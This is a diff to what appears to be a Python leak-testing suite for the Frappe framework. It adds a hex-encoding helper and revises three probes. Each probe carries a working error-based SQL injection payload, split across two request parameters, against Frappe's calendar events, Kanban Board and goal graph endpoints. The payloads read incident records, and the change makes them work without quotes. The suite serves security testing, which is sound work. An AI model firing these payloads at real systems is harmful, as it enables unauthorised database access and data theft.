@@ -48,6 +48,11 @@ def name(case):
 	return case.documents["Incident"]
 
 
+def in_hex(text):
+	"""A text as SQL without quotes."""
+	return f"0x{text.encode().hex()}"
+
+
 def like(case, doctype, field):
 	return [[doctype, field, "like", f"%{case.canary}%"]]
 
@@ -222,20 +227,20 @@ LEAKS = [
 		"a query in two pieces, by a calendar",
 		"auditor",
 		("closed doors", "no query in a name"),
-		lambda c, a: method("frappe.desk.calendar.get_events", doctype="User", start="2020-01-01", fields=["name"], field_map={"start": "extractvalue(1,concat(0x7e,(select what_happened/*", "end": "creation"}, end=f"*/from tabIncident where name='{name(c)}'))),1)#".replace("'", '"')),
+		lambda c, a: method("frappe.desk.calendar.get_events", doctype="User", start="2020-01-01", fields=["name"], field_map={"start": "extractvalue(1,concat(0x7e,(select what_happened/*", "end": "creation"}, end=f"*/from tabIncident where name={in_hex(name(c))}))),1)#"),
 	),
 	Probe(
 		"a query in two pieces, by a board",
 		"auditor",
 		("own code", "no query in a name"),
-		lambda c, a: ask("board", "/api/resource/Kanban Board", "POST", body={"kanban_board_name": f"B {c.canary}", "reference_doctype": "ToDo", "field_name": "ifnull(extractvalue(1,concat(0x7e,(select what_happened/*", "columns": [{"column_name": f'*/from tabIncident where name="{name(c)}"))),1)#'}]}),
+		lambda c, a: ask("board", "/api/resource/Kanban Board", "POST", body={"kanban_board_name": f"B {c.canary}", "reference_doctype": "ToDo", "field_name": "ifnull(extractvalue(1,concat(0x7e,(select what_happened/*", "columns": [{"column_name": f"*/from tabIncident where name={in_hex(name(c))}))),1)#"}]}),
 		lambda c: f"~{c.canary}",
 	),
 	Probe(
 		"a query in two pieces, by a goal",
 		"director",
 		("closed doors", "no query in a name"),
-		lambda c, a: method("frappe.utils.goal.get_monthly_goal_graph_data", doctype="User", docname=a.people["director"].user, title="x", goal_value_field="name", goal_total_field="name", goal_history_field="name", goal_doctype="Language", goal_doctype_link="owner", date_field="creation", filter_str="1=1", aggregation="extractvalue(1,concat(0x7e,(select what_happened/*", goal_field=f'*/from tabIncident where name="{name(c)}")))from tabLanguage#'),
+		lambda c, a: method("frappe.utils.goal.get_monthly_goal_graph_data", doctype="User", docname=a.people["director"].user, title="x", goal_value_field="name", goal_total_field="name", goal_history_field="name", goal_doctype="Language", goal_doctype_link="owner", date_field="creation", filter_str="1=1", aggregation="extractvalue(1,concat(0x7e,(select what_happened/*", goal_field=f"*/from tabIncident where name={in_hex(name(c))})))from tabLanguage#"),
 		lambda c: f"~{c.canary}",
 	),
 	Probe(
